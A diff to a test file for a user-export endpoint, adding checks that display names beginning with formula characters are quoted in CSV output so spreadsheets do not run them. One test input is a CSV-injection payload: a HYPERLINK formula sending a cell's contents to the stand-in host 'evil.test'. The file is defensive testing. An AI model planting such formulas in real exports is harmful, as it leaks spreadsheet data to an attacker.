@@ -91,10 +91,23 @@ describe('an export', () => {
     expect((await ask({ search: 'x', format: 'xml' })).statusCode).toBe(400);
   });
 
-  it.each(['=1+1', '+1', '-1', '@sum(a1)', '\t=1'])('holds no formula for a spreadsheet: %j', async (displayName) => {
+  it('holds none for a spreadsheet that cuts at semicolons either, and says the name as it is in lines', async () => {
+    const displayName = 'Ann;=HYPERLINK("http://evil.test/?"&A2;"open")';
+    await fillSnapshot(harness.store, { users: 1, now: harness.now(), displayName });
+    expect((await get('/exports/users')).body).toContain(`"Ann;'=HYPERLINK(""http`);
+    expect(JSON.parse((await get('/exports/users?format=jsonl')).body).display_name).toBe(displayName);
+  });
+
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@sum(a1)', "'@sum(a1)"],
+    ['\t=1', "'\t'=1"],
+  ])('holds no formula for a spreadsheet: %j', async (displayName, quoted) => {
     await fillSnapshot(harness.store, { users: 1, now: harness.now(), displayName });
     const { body } = await get('/exports/users');
-    expect(body).toContain(`'${displayName}`);
+    expect(body).toContain(`,${quoted},`);
     const line = JSON.parse((await get('/exports/users?format=jsonl')).body);
     expect(line.display_name).toBe(displayName);
   });
